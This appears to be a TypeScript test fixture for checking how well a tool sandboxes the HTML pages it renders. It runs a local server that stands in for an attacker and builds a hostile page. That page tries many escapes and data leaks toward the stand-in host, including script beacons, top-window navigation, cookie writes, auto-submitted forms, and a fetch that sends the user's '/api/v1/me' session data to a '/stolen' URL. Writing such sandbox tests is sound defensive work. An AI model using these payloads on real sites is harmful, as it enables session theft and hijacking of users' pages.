/** The place of an attacker: hears every request that reaches it, and serves what it is asked to. */
import http from 'node:http';
import type { AddressInfo } from 'node:net';

export interface Elsewhere {
  url: string;
  /** The paths that were asked for. */
  heard: string[];
  /** A document as a careless server would serve it. */
  serve: (type: string, content: string) => string;
  close: () => void;
}

export async function openElsewhere(): Promise<Elsewhere> {
  const heard: string[] = [];
  const served = new Map<string, { type: string; content: string }>();
  const server = http.createServer((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://elsewhere');
    const document = served.get(pathname);
    if (document === undefined) heard.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*');
    response.setHeader('content-type', document?.type ?? 'text/plain').end(document?.content ?? 'heard');
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    heard,
    serve: (type, content) => {
      const path = `/served-${served.size}`;
      served.set(path, { type, content });
      return url + path;
    },
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** A page that reaches for everything: the page around it, the session, other sites. `to` hears of what works. */
export const evilPage = (to: string, { stays } = { stays: false }): string => `<!doctype html>
<base href="${to}/base/">
${stays ? '' : `<meta http-equiv="refresh" content="1;url=${to}/refreshed">`}
<link rel="stylesheet" href="${to}/style"><link rel="prefetch" href="${to}/prefetch">
<style>@import url(${to}/import); body { background: url(${to}/background) }</style>
<h1>What the tool made</h1>
<script>
  new Image().src = '${to}/script';
  try { parent.document.title = 'owned' } catch {}
  ${stays ? '' : `try { top.location = '${to}/top' } catch {}`}
  try { localStorage.setItem('owned', '1'); document.cookie = 'owned=1' } catch {}
  try { open('${to}/opened') } catch {}
  fetch('/api/v1/me').then((r) => r.text()).then((t) => fetch('${to}/stolen?' + encodeURIComponent(t)));
</script>
<img src="x" onerror="new Image().src='${to}/onerror'"><img src="${to}/pixel">
<svg onload="new Image().src='${to}/svg'"><script>new Image().src='${to}/svg-script'</script></svg>
<iframe src="javascript:parent.document.title='owned'"></iframe><iframe src="${to}/frame"></iframe>
<iframe srcdoc="<script>new Image().src='${to}/srcdoc'</script>"></iframe>
<object data="${to}/object"></object><embed src="${to}/embed"><video src="${to}/video" autoplay></video>
<form action="${to}/form" method="post" id="form"><input name="x" autofocus ${stays ? '' : 'onfocus="form.submit()"'}><button>Send</button></form>
<a href="javascript:parent.document.title='owned'" id="code">code</a> <a href="${to}/clicked" target="_top" id="top">top</a>
<a href="${to}/blank" target="_blank" id="blank">blank</a>`;
